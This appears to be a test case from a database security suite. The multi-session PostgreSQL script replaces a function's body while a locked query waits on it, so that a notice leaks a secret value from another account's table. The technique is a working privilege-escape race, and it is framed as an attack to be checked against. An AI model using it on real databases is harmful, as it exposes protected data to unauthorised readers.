-- Gives an own function another body while a statement that calls it waits, and has a notice tell.
-- wants: read
-- attack:
CREATE FUNCTION told() RETURNS int LANGUAGE plpgsql AS $$BEGIN RETURN 1; END$$;
-- session: first
BEGIN;
LOCK TABLE mallory_own IN ACCESS EXCLUSIVE MODE;
-- session: reader
-- without waiting
SELECT told() FROM mallory_own;
-- session: second
SELECT pg_sleep(0.3);
CREATE OR REPLACE FUNCTION told() RETURNS int LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE 'a word: %', (SELECT secret FROM vlt_account WHERE id = 1); RETURN 1; END$$;
-- session: first
COMMIT;
